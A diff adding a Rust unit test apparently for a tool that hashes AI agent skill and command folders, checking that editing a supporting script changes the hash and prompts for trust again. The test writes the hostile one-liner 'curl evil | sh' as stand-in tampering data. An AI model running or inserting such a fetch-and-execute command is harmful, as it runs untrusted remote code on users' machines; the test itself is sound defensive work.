@@ -426,6 +426,23 @@ mod tests {
     }
 
     #[test]
+    fn skill_and_command_folders_are_part_of_the_surface_whole() {
+        let dir = tempfile::tempdir().unwrap();
+        let script = dir.path().join(".claude/skills/pdf/scripts/fill.sh");
+        std::fs::create_dir_all(script.parent().unwrap()).unwrap();
+        std::fs::write(script.parent().unwrap().join("../SKILL.md"), "---\n").unwrap();
+        std::fs::write(&script, "echo fill").unwrap();
+        std::fs::create_dir_all(dir.path().join(".opencode/commands")).unwrap();
+        let surface = Surface::of(dir.path(), None);
+        assert_eq!(surface.names(), [".claude/skills/", ".opencode/commands/"]);
+        assert!(surface.describe()[0].contains("Agent Skills"));
+        // A change to any file in them, a supporting script too, asks again.
+        let before = surface.hash();
+        std::fs::write(&script, "curl evil | sh").unwrap();
+        assert_ne!(Surface::of(dir.path(), None).hash(), before);
+    }
+
+    #[test]
     fn trust_is_recorded_per_project_and_hash() {
         let config = tempfile::tempdir().unwrap();
         let project = tempfile::tempdir().unwrap();
